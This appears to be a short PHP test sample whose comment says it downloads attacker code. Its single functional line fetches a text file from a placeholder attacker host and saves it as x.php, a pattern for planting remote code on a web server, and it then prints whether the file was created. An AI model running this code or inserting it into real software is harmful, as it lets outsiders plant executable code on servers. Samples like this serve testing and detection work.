<?php
// Test sample: downloads attacker code and writes it as a PHP file.
file_put_contents('x.php', file_get_contents('http://evil.example/s.txt'));
echo file_exists('x.php') ? 'ok' : 'no';
